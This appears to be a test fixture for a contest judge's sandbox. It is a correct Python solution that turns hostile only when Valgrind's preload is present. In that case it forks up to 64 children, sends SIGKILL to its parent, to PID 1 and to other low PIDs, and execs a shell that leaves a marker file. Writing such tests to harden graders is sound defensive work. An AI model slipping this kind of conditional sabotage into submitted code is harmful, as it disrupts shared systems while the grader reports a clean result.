# attack: a correct solution that turns hostile only under the complexity
#   hint's instruction counter (Valgrind's preload in LD_PRELOAD), where the ladder
#   runs it in a forked child: it forks as far as it can, signals its parent
#   and every process it can name, then tries to exec a shell that would
#   leave a file behind. Grading sees a plain AC; the hint must end
#   without leaving anything, and the verdict must stay AC.
# verdicts: AC
# hints: on
import os
import signal
import sys


def main():
    data = sys.stdin.buffer.read().split()
    n = int(data[0])
    pos = [0] * (n + 2)
    for i, v in enumerate(data[1:n + 1]):
        pos[int(v)] = i
    passes = 1 + sum(1 for v in range(1, n) if pos[v + 1] < pos[v])
    sys.stdout.write(f"{passes}\n")
    sys.stdout.flush()


main()
if "vgpreload" in os.environ.get("LD_PRELOAD", ""):
    children = 0
    for _ in range(64):
        try:
            if os.fork() == 0:
                import time
                time.sleep(30)
                os._exit(0)
            children += 1
        except OSError:
            break
    for pid in [os.getppid(), 1] + list(range(2, 64)):
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.execv("/bin/sh", ["sh", "-c", "touch /tmp/judge-attack-pwned; sleep 30"])
